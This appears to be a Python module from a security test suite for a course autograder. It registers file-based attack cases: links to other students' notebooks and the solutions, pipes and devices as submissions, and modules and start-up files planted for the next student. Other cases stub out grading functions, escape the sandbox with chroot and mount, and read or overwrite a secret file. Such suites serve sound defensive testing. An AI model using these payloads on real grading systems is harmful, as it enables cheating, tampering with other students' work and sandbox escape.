"""Attacks with files: what is handed in, and what is left for the next student or the grader."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
from pathlib import Path

from ..registry import Submission, Target, attack, cells, code


def _write(folder: Path, target: Target, name: str = "") -> Path:
    path = folder / (name or f"{target.places['LESSON']}.ipynb")
    path.write_text(json.dumps(cells(target.release)), encoding="utf-8")
    return path


@attack("the submission is a symbolic link to another student's", "files")
def _(target: Target) -> Submission:
    lesson = target.places["LESSON"]
    other = Path(target.places["OTHERS"]) / "ada" / lesson / f"{lesson}.ipynb"
    return lambda folder: (folder / f"{lesson}.ipynb").symlink_to(other)


@attack("the submission is a symbolic link to the solutions", "files")
def _(target: Target) -> Submission:
    lesson = target.places["LESSON"]
    solution = Path(target.places["COURSE"]) / "solutions" / lesson / f"{lesson}.ipynb"
    return lambda folder: (folder / f"{lesson}.ipynb").symlink_to(solution)


@attack("the submission is a hard link to the solutions", "files")
def _(target: Target) -> Submission:
    lesson = target.places["LESSON"]
    solution = Path(target.places["COURSE"]) / "solutions" / lesson / f"{lesson}.ipynb"
    return lambda folder: (folder / f"{lesson}.ipynb").hardlink_to(solution)


@attack("the submission is a hard link to another student's", "files", needs="ROOT")
def _(target: Target) -> Submission:
    lesson = target.places["LESSON"]
    other = Path(target.places["OTHERS"]) / "ada" / lesson / f"{lesson}.ipynb"

    def place(folder: Path) -> None:
        (folder / f"{lesson}.ipynb").hardlink_to(other)
        with contextlib.suppress(PermissionError):
            os.chown(folder, 64_000, 64_000)  # the attacker's

    return place


@attack("hard links to another student's notebook beside one's own, to cost that student points", "files")
def _(target: Target) -> Submission:
    lesson = target.places["LESSON"]
    other = Path(target.places["OTHERS"]) / "ada" / lesson / f"{lesson}.ipynb"

    def place(folder: Path) -> None:
        _write(folder, target)
        (folder / "copy.ipynb").hardlink_to(other)
        (folder / lesson).mkdir()
        (folder / lesson / f"{lesson}.ipynb").hardlink_to(other)

    return place


@attack("the submission's folder is a symbolic link to another student's", "files")
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        folder.rmdir()
        folder.symlink_to(Path(target.places["OTHERS"]) / "ada" / target.places["LESSON"])

    return place


@attack("the submission is a named pipe that nobody writes to", "files")
def _(target: Target) -> Submission:
    return lambda folder: os.mkfifo(folder / f"{target.places['LESSON']}.ipynb")


@attack("the submission is a folder", "files")
def _(target: Target) -> Submission:
    return lambda folder: (folder / f"{target.places['LESSON']}.ipynb").mkdir()


@attack("a symbolic link to the endless device", "files")
def _(target: Target) -> Submission:
    return lambda folder: (folder / f"{target.places['LESSON']}.ipynb").symlink_to("/dev/zero")


@attack("the time stamp is a symbolic link to a secret", "files", pages=True)
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        _write(folder, target)
        (folder / "timestamp.txt").symlink_to(Path(target.places["VAULT"]) / "secret.txt")

    return place


@attack("the time stamp is a named pipe", "files")
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        _write(folder, target)
        os.mkfifo(folder / "timestamp.txt")

    return place


@attack("the time stamp is a gigabyte long", "files")
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        _write(folder, target)
        with (folder / "timestamp.txt").open("wb") as file:
            file.truncate(2**30)

    return place


@attack("files beside the notebook link to secrets", "files", pages=True)
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        _write(folder, target)
        for name in ("secret.txt", "figure.png", "checks.json"):
            (folder / name).symlink_to(Path(target.places["VAULT"]) / "secret.txt")
        (folder / "all").symlink_to(target.places["VAULT"], target_is_directory=True)

    return place


@attack("a forged checks.json and modules named like NumPy lie beside the notebook", "files")
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        _write(folder, target)
        (folder / "checks.json").write_text('{"format": 1, "lesson": "x", "exercises": []}')
        for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "autograde.py"):
            (folder / name).write_text(f"open({target.places['VAULT']!r} + '/planted', 'w')\n")
        (folder / "nbgrader_config.py").write_text("raise SystemExit\n")
        (folder / "evil.pth").write_text("import os; os._exit(0)\n")

    return place


code(
    "a file outside is changed",
    "files",
    "open('@VAULT@/secret.txt', 'w').write('changed')",
    needs="FILES",
)
code(
    "modules and start-up files are planted for the next student",
    "files",
    """
import pathlib
import site
import sys

text = "import builtins\\nbuiltins.planted = '@MARK@'\\n"
places = [pathlib.Path.home(), pathlib.Path.cwd(), pathlib.Path.cwd().parent, pathlib.Path('@VAULT@')]
for place in places:
    for name in ('numpy.py', 'sitecustomize.py', 'usercustomize.py', '@MARK@.py', 'ipython_config.py'):
        try:
            (place / name).write_text(text)
        except OSError:
            pass
    start = place / '.ipython' / 'profile_default' / 'startup'
    try:
        start.mkdir(parents=True, exist_ok=True)
        (start / '00-@MARK@.py').write_text(text)
    except OSError:
        pass
""",
    needs="FILES",
)
code(
    "a start-up file is planted in the packages of the environment",
    "files",
    """
import pathlib
import numpy

for place in (pathlib.Path(numpy.__file__).parents[1], pathlib.Path('/tmp'), pathlib.Path('/dev/shm')):
    try:
        (place / '@MARK@.pth').write_text("import builtins; builtins.planted = '@MARK@'\\n")
    except OSError:
        pass
""",
    needs="FILES",
)
code(
    "coursekit is patched for the next student, in memory",
    "files",
    """
import sys
import numpy as np

np.planted = True
np.tanh = lambda z: z * 0.0
np.ndarray.sum if hasattr(np.ndarray, 'sum') else None
for name, module in list(sys.modules.items()):
    if name.startswith(('coursekit', 'autograde')):
        vars(module)['planted'] = True
        for key, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type):
                vars(module)[key] = lambda *a, **k: None
""",
)
code(
    "symbolic and hard links in the session's folder lead outside",
    "files",
    """
import os

for name in ('checks.json', 'a', 'b'):
    for make in (os.symlink, os.link):
        try:
            if os.path.lexists(name):
                os.remove(name)
            make('@VAULT@/secret.txt', name)
        except OSError:
            continue
os.symlink('@VAULT@', 'folder')
os.chmod('.', 0)
""",
    double="def double(z):\n    import os\n    os._exit(0)",
)
code(
    "the session's folder is left unreadable, deep and full of odd names",
    "files",
    """
import os

here = os.open('.', os.O_RDONLY)
for depth in range(300):
    os.mkdir('d', 0o700)
    os.chdir('d')
os.fchdir(here)
for name in ('-rf', '--help', 'a\\nb', '\\udcff', '*', '~', 'x' * 250, '.hidden'):
    try:
        open(name, 'w').close()
    except OSError:
        pass
os.mkfifo('pipe')
os.chmod('d', 0)
os.chmod('.', 0)
""",
)
code(
    "devices are made and read",
    "files",
    """
import os

os.mknod('disk', 0o666 | 0o060000, os.makedev(254, 0))
with open('disk', 'rb') as disk:
    print('SECRET-FOUND: the disk is readable', len(disk.read(16)))
""",
    needs="SECCOMP",
)
code(
    "the session leaves its folder by mounting, chroot and open directories",
    "files",
    """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs('jail', exist_ok=True)
try:
    os.chroot('jail')
except OSError:
    pass
for _ in range(64):
    os.chdir('..')
try:
    os.chroot('.')
except OSError:
    pass
libc.mount(b'proc', b'/proc', b'proc', 0, None)
libc.mount(b'none', b'/', None, 1 << 18, None)
with open('@VAULT@/secret.txt', 'r+') as secret:
    print(secret.read())
    secret.write('changed')
""",
    needs="FILES",
)


@attack("the submission is a device", "files", needs="ROOT")
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        path = folder / f"{target.places['LESSON']}.ipynb"
        try:
            os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero
        except PermissionError:
            path.symlink_to("/dev/zero")

    return place


@attack("the submission is a Unix socket, and pipes and endless devices lie beside it", "files")
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(os.path.relpath(folder / f"{target.places['LESSON']}.ipynb"))
        os.mkfifo(folder / "pipe.txt")
        (folder / "endless.txt").symlink_to("/dev/zero")
        (folder / "checks.json").symlink_to("/dev/zero")

    return place


@attack("links in a circle and to folders above", "files")
def _(target: Target) -> Submission:
    def place(folder: Path) -> None:
        _write(folder, target)
        (folder / "a").symlink_to("b")
        (folder / "b").symlink_to("a")
        (folder / "above").symlink_to("../..", target_is_directory=True)
        (folder / "other.ipynb").symlink_to("other.ipynb")

    return place
